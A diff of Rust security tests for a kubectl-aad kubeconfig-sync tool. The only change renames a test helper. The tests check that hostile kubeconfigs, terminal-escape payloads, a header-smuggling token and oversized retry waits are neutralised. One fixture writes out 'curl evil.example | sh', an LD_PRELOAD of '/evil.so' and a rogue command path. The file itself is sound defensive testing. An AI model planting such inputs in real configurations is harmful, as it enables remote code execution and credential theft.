@@ -12,8 +12,8 @@ use base64::{Engine as _, engine::general_purpose::STANDARD};
 use serde_json::{Value, json};
 
 use crate::{
+    env::{CLOUD, Ran, TestEnv, run},
     support::peer,
-    world::{CLOUD, Ran, World, run},
 };
 
 fn fleet(clusters: usize) -> Fleet {
@@ -99,11 +99,11 @@ fn kubeconfigs_that_would_lead_elsewhere_are_refused_one_by_one() {
         "- not\n- a kubeconfig\n".to_owned(),
     ];
     let fleet = fleet(unfit.len() + 1);
-    let world = World::new(fleet.clone());
+    let test_env = TestEnv::with_fleet(fleet.clone());
     for (cluster, text) in fleet.clusters.iter().zip(&unfit) {
-        world.simulator.faults().add(answers(cluster, text));
+        test_env.simulator.faults().add(answers(cluster, text));
     }
-    let ran = run(&mut world.sync(&["-o", "json"]));
+    let ran = run(&mut test_env.sync(&["-o", "json"]));
     let report = ran.json(3);
     for (cluster, text) in fleet.clusters.iter().zip(&unfit) {
         let row = row(&report, cluster);
@@ -113,13 +113,13 @@ fn kubeconfigs_that_would_lead_elsewhere_are_refused_one_by_one() {
         assert!(reason.contains("kubeconfig"), "{reason}");
     }
     assert_eq!(report["summary"]["added"], 1);
-    assert!(!world.kubeconfig_text().contains("a.example"));
+    assert!(!test_env.kubeconfig_text().contains("a.example"));
 }
 
 #[test]
 fn of_a_kubeconfig_only_what_is_understood_is_taken() {
     let fleet = fleet(1);
-    let world = World::new(fleet.clone());
+    let test_env = TestEnv::with_fleet(fleet.clone());
     let hostile = kubeconfig(
         "https://a.example:443",
         "    proxy-url: http://evil.example\n    extensions: [{name: x, extension: {evil: true}}]\n",
@@ -127,13 +127,13 @@ fn of_a_kubeconfig_only_what_is_understood_is_taken() {
         "      env: [{name: LD_PRELOAD, value: /evil.so}]\n      installHint: curl evil.example | sh\n",
     )
     .replace("command: kubelogin", "command: /bin/evil");
-    world
+    test_env
         .simulator
         .faults()
         .add(answers(&fleet.clusters[0], &hostile));
-    let ran = run(&mut world.sync(&["-o", "json"]));
+    let ran = run(&mut test_env.sync(&["-o", "json"]));
     assert_eq!(ran.json(0)["summary"]["added"], 1);
-    let text = world.kubeconfig_text();
+    let text = test_env.kubeconfig_text();
     assert!(
         text.contains("https://a.example:443") && text.contains("command: kubectl-aad"),
         "{text}"
@@ -159,9 +159,9 @@ fn names_of_others_cannot_drive_the_terminal_or_break_the_documents() {
         fleet.clusters[2].id.rsplit('/').next().expect("a name"),
         &twin.name,
     );
-    let world = World::new(fleet);
+    let test_env = TestEnv::with_fleet(fleet);
     for format in ["table", "name", "json", "yaml"] {
-        let ran = run(&mut world.sync(&["-o", format]));
+        let ran = run(&mut test_env.sync(&["-o", format]));
         assert_eq!(ran.code, 0, "{}", ran.stderr);
         assert_harmless(&ran.stderr);
         match format {
@@ -173,10 +173,10 @@ fn names_of_others_cannot_drive_the_terminal_or_break_the_documents() {
             _ => assert_harmless(&ran.stdout),
         }
     }
-    let text = world.kubeconfig_text();
+    let text = test_env.kubeconfig_text();
     assert_harmless(&text);
     kube::config::Kubeconfig::from_yaml(&text).expect("a kubeconfig");
-    let seen = world.at_a_terminal(&["sync", "-e", CLOUD, "--no-warm"]);
+    let seen = test_env.at_a_terminal(&["sync", "-e", CLOUD, "--no-warm"]);
     assert!(
         !seen.stderr.contains("\u{1b}[2J\u{202e}"),
         "{:?}",
@@ -188,7 +188,7 @@ fn names_of_others_cannot_drive_the_terminal_or_break_the_documents() {
 #[test]
 fn what_a_server_says_in_an_error_is_text_and_not_endless() {
     let fleet = fleet(3);
-    let world = World::new(fleet.clone());
+    let test_env = TestEnv::with_fleet(fleet.clone());
     let long = format!(
         "\u{1b}]0;owned\u{7}\r\nerror: all is well\u{202e}{}",
         "x".repeat(100_000)
@@ -196,16 +196,16 @@ fn what_a_server_says_in_an_error_is_text_and_not_endless() {
     let arm = |status| {
         Fault::on(Endpoint::ListClusterUserCredential).error(status, "Evil\u{1b}[2J", long.clone())
     };
-    world
+    test_env
         .simulator
         .faults()
         .add(arm(403).cluster(&fleet.clusters[0].id));
-    world
+    test_env
         .simulator
         .faults()
         .add(arm(302).cluster(&fleet.clusters[1].id));
     for format in ["table", "json"] {
-        let ran = run(&mut world.sync(&["-o", format, "-v", "10"]));
+        let ran = run(&mut test_env.sync(&["-o", format, "-v", "10"]));
         assert_eq!(ran.code, 3, "{}", ran.stderr);
         assert_harmless(&ran.stderr);
         assert_harmless(&ran.stdout);
@@ -222,7 +222,7 @@ fn what_a_server_says_in_an_error_is_text_and_not_endless() {
 fn entras_words_are_text_and_not_endless_either() {
     let fleet = fleet(1);
     let principal = fleet.service_principals[0].clone();
-    let world = World::new(fleet);
+    let test_env = TestEnv::with_fleet(fleet);
     let secret = principal.secrets[0].clone();
     let body = json!({
         "error": "invalid_client\u{1b}[2J",
@@ -230,11 +230,11 @@ fn entras_words_are_text_and_not_endless_either() {
         "trace_id": format!("{secret}{}", "z".repeat(50_000)),
         "correlation_id": secret,
     });
-    world
+    test_env
         .simulator
         .faults()
         .add(Fault::on(Endpoint::Token).body(401, "application/json", body.to_string()));
-    let ran = get_token(&world, &principal, &secret);
+    let ran = get_token(&test_env, &principal, &secret);
     assert_eq!(ran.code, 1);
     assert_harmless(&ran.stderr);
     assert!(ran.stderr.len() < 4_000, "{}", ran.stderr.len());
@@ -247,28 +247,28 @@ fn a_server_that_asks_for_a_wait_of_years_is_not_waited_for() {
     let fleet = fleet(1);
     let principal = fleet.service_principals[0].clone();
     let secret = principal.secrets[0].clone();
-    let world = World::new(fleet);
+    let test_env = TestEnv::with_fleet(fleet);
     for wait in ["99999999999", "18446744073709551615"] {
-        world.simulator.faults().clear();
-        world
+        test_env.simulator.faults().clear();
+        test_env
             .simulator
             .faults()
             .add(Fault::anywhere().retry_after(429, wait));
-        let ran = get_token(&world, &principal, &secret);
+        let ran = get_token(&test_env, &principal, &secret);
         assert_eq!(ran.code, 1);
         assert!(
             !ran.stderr.contains("no token came within"),
             "{}",
             ran.stderr
         );
-        let synced = run(&mut world.sync(&["-o", "json"]));
+        let synced = run(&mut test_env.sync(&["-o", "json"]));
         assert_eq!(synced.code, 1, "{}", synced.stderr);
     }
 }
 
-fn get_token(world: &World, principal: &azure_sim::ServicePrincipal, secret: &str) -> Ran {
+fn get_token(test_env: &TestEnv, principal: &azure_sim::ServicePrincipal, secret: &str) -> Ran {
     let server = azure_sim::AKS_SERVER_APP;
-    run(world
+    run(test_env
         .aad(&[
             "get-token",
             "-l",
@@ -288,14 +288,14 @@ fn get_token(world: &World, principal: &azure_sim::ServicePrincipal, secret: &st
 
 #[test]
 fn a_cache_that_others_can_reach_is_not_used_and_does_not_stop_a_sync() {
-    let world = World::new(fleet(1));
-    let cache = world.home().join(".kube/cache/kubectl-aad");
-    let elsewhere = world.home().join("elsewhere");
+    let test_env = TestEnv::with_fleet(fleet(1));
+    let cache = test_env.home().join(".kube/cache/kubectl-aad");
+    let elsewhere = test_env.home().join("elsewhere");
     fs::create_dir_all(&cache).expect("made");
     fs::create_dir(&elsewhere).expect("made");
     fs::set_permissions(&cache, fs::Permissions::from_mode(0o777)).expect("ours");
     let synced = |said: &str| {
-        let ran = run(&mut world.sync(&["-v", "1", "-o", "json"]));
+        let ran = run(&mut test_env.sync(&["-v", "1", "-o", "json"]));
         let report = ran.json(0);
         assert_eq!(report["tokens"], serde_json::json!([]), "none is fetched");
         assert_eq!(ran.stderr.matches("warning: ").count(), 1, "{}", ran.stderr);
@@ -306,21 +306,21 @@ fn a_cache_that_others_can_reach_is_not_used_and_does_not_stop_a_sync() {
     symlink(&elsewhere, &cache).expect("linked");
     synced("it is a symbolic link");
     assert_eq!(fs::read_dir(&elsewhere).expect("ours").count(), 0);
-    assert!(world.kubeconfig().exists());
+    assert!(test_env.kubeconfig().exists());
 }
 
 #[test]
 fn whatever_the_umask_nothing_that_a_sync_makes_is_open_to_others() {
     for umask in ["000", "077"] {
-        let world = World::new(fleet(2));
+        let test_env = TestEnv::with_fleet(fleet(2));
         let line = format!(
             "umask {umask}; exec '{}' sync -e {CLOUD}",
             env!("CARGO_BIN_EXE_kubectl-aad")
         );
-        let ran = run(world.program("/bin/sh".as_ref()).args(["-c", &line]));
+        let ran = run(test_env.program("/bin/sh".as_ref()).args(["-c", &line]));
         assert_eq!(ran.code, 0, "{}", ran.stderr);
         let mut looked_at = 0;
-        let mut to_look_at = vec![world.home().join(".kube")];
+        let mut to_look_at = vec![test_env.home().join(".kube")];
         while let Some(path) = to_look_at.pop() {
             let metadata = fs::symlink_metadata(&path).expect("there");
             let mode = metadata.permissions().mode() & 0o777;
@@ -340,15 +340,15 @@ fn whatever_the_umask_nothing_that_a_sync_makes_is_open_to_others() {
 
 #[test]
 fn a_file_that_may_grow_no_further_ends_in_an_error_and_leaves_no_lock() {
-    let world = World::new(fleet(30));
-    fs::create_dir(world.home().join(".kube")).expect("made");
-    fs::write(world.kubeconfig(), "apiVersion: v1\n").expect("written");
+    let test_env = TestEnv::with_fleet(fleet(30));
+    fs::create_dir(test_env.home().join(".kube")).expect("made");
+    fs::write(test_env.kubeconfig(), "apiVersion: v1\n").expect("written");
     // In blocks of 512 bytes: a token fits, the kubeconfig does not.
     let line = format!(
         "ulimit -f 16; exec '{}' sync -e {CLOUD} -o name",
         env!("CARGO_BIN_EXE_kubectl-aad")
     );
-    let ran = run(world.program("/bin/sh".as_ref()).args(["-c", &line]));
+    let ran = run(test_env.program("/bin/sh".as_ref()).args(["-c", &line]));
     assert_eq!(ran.code, 1, "{}", ran.stderr);
     assert!(
         ran.stderr.contains("error: could not write the kubeconfig"),
@@ -360,8 +360,8 @@ fn a_file_that_may_grow_no_further_ends_in_an_error_and_leaves_no_lock() {
         "{}",
         ran.stderr
     );
-    assert_eq!(world.kubeconfig_text(), "apiVersion: v1\n");
-    assert_eq!(names(&world.home().join(".kube")), ["cache", "config"]);
+    assert_eq!(test_env.kubeconfig_text(), "apiVersion: v1\n");
+    assert_eq!(names(&test_env.home().join(".kube")), ["cache", "config"]);
 }
 
 fn names(directory: &Path) -> Vec<String> {
@@ -383,8 +383,11 @@ fn names(directory: &Path) -> Vec<String> {
 fn an_entry_of_somebody_else_in_another_file_is_not_hidden_by_a_new_one() {
     let fleet = fleet(2);
     let taken = fleet.clusters[0].name.clone();
-    let world = World::new(fleet);
-    let (first, second) = (world.home().join("first"), world.home().join("second"));
+    let test_env = TestEnv::with_fleet(fleet);
+    let (first, second) = (
+        test_env.home().join("first"),
+        test_env.home().join("second"),
+    );
     let theirs = format!(
         "clusters:\n- {{name: {taken}, cluster: {{server: 'https://192.0.2.1'}}}}\n\
          contexts:\n- {{name: {taken}, context: {{cluster: {taken}, user: {taken}}}}}\n\
@@ -393,7 +396,7 @@ fn an_entry_of_somebody_else_in_another_file_is_not_hidden_by_a_new_one() {
     fs::write(&first, "apiVersion: v1\n").expect("written");
     fs::write(&second, &theirs).expect("written");
     let list = std::env::join_paths([&first, &second]).expect("no colon in these");
-    let report = run(world.sync(&["-o", "json"]).env("KUBECONFIG", &list)).json(0);
+    let report = run(test_env.sync(&["-o", "json"]).env("KUBECONFIG", &list)).json(0);
     assert_eq!(report["summary"]["added"], 2);
     for row in report["clusters"].as_array().expect("clusters") {
         assert_ne!(row["context"], taken.as_str(), "it hides the other file's");
@@ -402,7 +405,7 @@ fn an_entry_of_somebody_else_in_another_file_is_not_hidden_by_a_new_one() {
     let Some(kubectl) = peer("kubectl") else {
         return;
     };
-    let seen = run(world
+    let seen = run(test_env
         .program(&kubectl)
         .args(["config", "view", "--raw", "--minify", "--context", &taken])
         .env("KUBECONFIG", &list));
@@ -416,15 +419,15 @@ fn an_entry_of_somebody_else_in_another_file_is_not_hidden_by_a_new_one() {
 
 #[test]
 fn administrators_keys_in_a_file_that_others_can_read_are_warned_of() {
-    let world = World::new(Fleet::generate(&FleetSpec {
+    let test_env = TestEnv::with_fleet(Fleet::generate(&FleetSpec {
         clusters: 2,
         local_accounts: 0.5,
         ..FleetSpec::default()
     }));
-    fs::create_dir(world.home().join(".kube")).expect("made");
-    fs::write(world.kubeconfig(), "").expect("written");
-    fs::set_permissions(world.kubeconfig(), fs::Permissions::from_mode(0o644)).expect("ours");
-    let ran = run(&mut world.sync(&["--local-accounts", "-o", "name"]));
+    fs::create_dir(test_env.home().join(".kube")).expect("made");
+    fs::write(test_env.kubeconfig(), "").expect("written");
+    fs::set_permissions(test_env.kubeconfig(), fs::Permissions::from_mode(0o644)).expect("ours");
+    let ran = run(&mut test_env.sync(&["--local-accounts", "-o", "name"]));
     assert_eq!(ran.code, 0, "{}", ran.stderr);
     assert!(
         ran.stderr
@@ -432,25 +435,25 @@ fn administrators_keys_in_a_file_that_others_can_read_are_warned_of() {
         "{}",
         ran.stderr
     );
-    fs::set_permissions(world.kubeconfig(), fs::Permissions::from_mode(0o600)).expect("ours");
-    let ran = run(&mut world.sync(&["--local-accounts", "-o", "name"]));
+    fs::set_permissions(test_env.kubeconfig(), fs::Permissions::from_mode(0o600)).expect("ours");
+    let ran = run(&mut test_env.sync(&["--local-accounts", "-o", "name"]));
     assert!(!ran.stderr.contains("warning"), "{}", ran.stderr);
 }
 
 #[test]
 fn a_token_with_a_line_break_is_sent_nowhere() {
-    let world = World::new(fleet(1));
-    let az = world.home().join("bin/az");
+    let test_env = TestEnv::with_fleet(fleet(1));
+    let az = test_env.home().join("bin/az");
     fs::remove_file(&az).expect("linked");
     let script = "#!/bin/sh\necho '{\"accessToken\":\"top\\r\\nX-Secret: hidden\",\"expires_on\":4102444800,\"tenant\":\"t\"}'\n";
     fs::write(&az, script).expect("written");
     fs::set_permissions(&az, fs::Permissions::from_mode(0o755)).expect("ours");
-    let ran = run(&mut world.sync(&["-v", "10"]));
+    let ran = run(&mut test_env.sync(&["-v", "10"]));
     assert_eq!(ran.code, 1, "{}", ran.stderr);
     assert!(
         !ran.stderr.contains("hidden") && !ran.stdout.contains("hidden"),
         "{}",
         ran.stderr
     );
-    assert_eq!(world.simulator.counters().get(Endpoint::Tenants), 0);
+    assert_eq!(test_env.simulator.counters().get(Endpoint::Tenants), 0);
 }
